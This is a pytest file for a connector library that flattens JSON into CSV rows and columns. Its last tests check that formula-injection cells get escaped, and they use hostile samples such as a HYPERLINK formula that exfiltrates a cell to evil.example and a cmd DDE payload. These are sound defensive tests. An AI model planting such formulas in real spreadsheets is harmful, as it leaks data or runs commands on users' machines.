"""JSON objects as rows."""

from decimal import Decimal

import pytest
from connector_agent.connectors.files.cells import (
    CellError,
    csv_line,
    in_order,
    marked,
    rows_of,
    text_of,
    unmarked,
)
from connector_agent.connectors.files.columns import columns_as_field
from connector_sdk import Field, conform
from hypothesis import given
from hypothesis import strategies as st


def flattened(request: bytes, columns: tuple[str, ...]) -> dict[str, str]:
    (cells,) = rows_of(request, columns, "json")
    return {name: text_of(value) for name, value in cells.items()}


def test_nested_objects_become_dotted_columns() -> None:
    request = b'{"id":"c","address":{"line1":"x","geo":{"lat":1.10}},"ok":true,"no":null,"n":12}'
    assert flattened(request, ()) == {
        "id": "c",
        "address.line1": "x",
        "address.geo.lat": "1.10",
        "ok": "true",
        "no": "",
        "n": "12",
    }


def test_lists_and_stated_objects_are_json() -> None:
    request = b'{"tags":["a",1.50],"metadata":{"crm":"1"},"none":{}}'
    assert flattened(request, ("metadata",)) == {
        "tags": '["a",1.50]',
        "metadata": '{"crm":"1"}',
    }


def test_large_numbers_keep_their_digits() -> None:
    request = b'{"a":12345678901234567890123,"b":0.12345678901234567890}'
    assert flattened(request, ()) == {
        "a": "12345678901234567890123",
        "b": "0.12345678901234567890",
    }


def test_two_fields_in_one_column() -> None:
    with pytest.raises(CellError, match=r"belong to the column 'a\.b'"):
        flattened(b'{"a":{"b":1},"a.b":2}', ())


def test_order_and_absent_fields() -> None:
    assert in_order({"b": "2", "a": "1"}, ("a", "c", "b")) == ["1", None, "2"]


def test_a_field_without_a_column() -> None:
    with pytest.raises(CellError) as caught:
        in_order({"id": "1", "nam": "x"}, ("id", "name"))
    problem = caught.value.problem
    assert problem.path == "nam"
    assert problem.remedy.startswith("Did you mean 'name'? State it in the target's `columns`")


def test_formulas_stay_as_they_are() -> None:
    assert csv_line(["=1+1", "+a", "@b"], ",") == "=1+1,+a,@b\r\n"


def test_quoting() -> None:
    cells = ["a,b", 'c"d', "e\nf", "g\rh", "i;j", " k ", "é"]
    line = '"a,b","c""d","e\nf","g\rh",i;j, k ,é\r\n'
    assert csv_line(cells, ",") == line
    assert csv_line([""], ",") == '""\r\n'


ANY = Field(name="", type="any")


def test_columns_as_a_schema() -> None:
    schema = columns_as_field(
        ("id", "address.line1", "address.geo.lat", "metadata", "metadata.x"), ANY
    )
    sound = conform(schema, {"id": 1, "address": {"line1": "x", "geo": {"lat": 2}}, "metadata": {}})
    assert sound.problems == ()
    wrong = conform(schema, {"address": {"line2": "x"}})
    assert [problem.path for problem in wrong.problems] == ["address.line2"]


def test_columns_with_an_index_are_lists() -> None:
    schema = columns_as_field(("items[0].price", "items[1].price", "items[0].sku", "tags[0]"), ANY)
    sound = conform(schema, {"items": [{"price": 1}, {"sku": "a"}, {}], "tags": ["x", 2]})
    assert sound.problems == ()
    assert conform(schema, {"items": [{"prize": 1}]}).problems[0].path == "items[0].prize"


def test_lists_as_columns() -> None:
    request = b'{"id":1,"items":[{"price":1.10},{"price":2,"tags":["a","b"]}],"none":[]}'
    assert rows_of(request, (), "columns") == [
        {
            "id": 1,
            "items[0].price": Decimal("1.10"),
            "items[1].price": 2,
            "items[1].tags[0]": "a",
            "items[1].tags[1]": "b",
        }
    ]


def test_lists_as_rows_repeat_the_outer_fields() -> None:
    request = (
        b'{"no":"17","lines":[{"sku":"a","tags":["x"]},{"sku":"b"},"c"],"to":{"city":"Leeds"}}'
    )
    assert rows_of(request, (), "rows") == [
        {"no": "17", "to.city": "Leeds", "lines.sku": "a", "lines.tags": '["x"]'},
        {"no": "17", "to.city": "Leeds", "lines.sku": "b"},
        {"no": "17", "to.city": "Leeds", "lines": "c"},
    ]
    assert rows_of(b'{"no":"17","lines":[]}', (), "rows") == [{"no": "17"}]


def test_only_one_list_gives_the_rows() -> None:
    request = b'{"lines":[{"sku":"a"}],"tags":["x"]}'
    with pytest.raises(CellError, match=r"two lists, 'lines' and 'tags'"):
        rows_of(request, (), "rows")
    assert rows_of(request, ("tags", "lines.sku"), "rows") == [{"lines.sku": "a", "tags": '["x"]'}]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?"&A1)',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tx",
        "＝1+1",
        "＋1＋1",
        "－1",
        "＠SUM",
        "'=1+1",
        "+49-170-123",
        "-" + "9" * 200,
    ],
)
def test_what_would_be_run_is_marked(cell: str) -> None:
    assert marked(cell) == f"'{cell}"
    assert unmarked(f"'{cell}") == cell


@pytest.mark.parametrize(
    "cell",
    [
        *("-5", "+5", "-1,234.56", "-1.234,56", "-1 234,5", "-.5", "-1e-7", "-5%", "- ", "--"),
        *("", "Ada", "O'Neil", "a=b", "ada@example.com", "+49 170 1234567", "'quoted'", "-"),
        *(-5, -1.5, None, True),
    ],
)
def test_what_runs_nothing_stays(cell: str | float | None) -> None:
    assert marked(cell) == cell
    if isinstance(cell, str):
        assert unmarked(cell) == cell


@given(st.text() | st.text(alphabet="'=+-@ \t\r1a＝"))
def test_every_text_comes_back(text: str) -> None:
    assert unmarked(str(marked(text))) == text


def test_long_cells() -> None:
    assert marked("-1" + " " * 1_000_000 + "x").startswith("'")
    for cell in ("'" * 1_000_000, " " * 1_000_000 + "x"):
        assert marked(cell) == cell
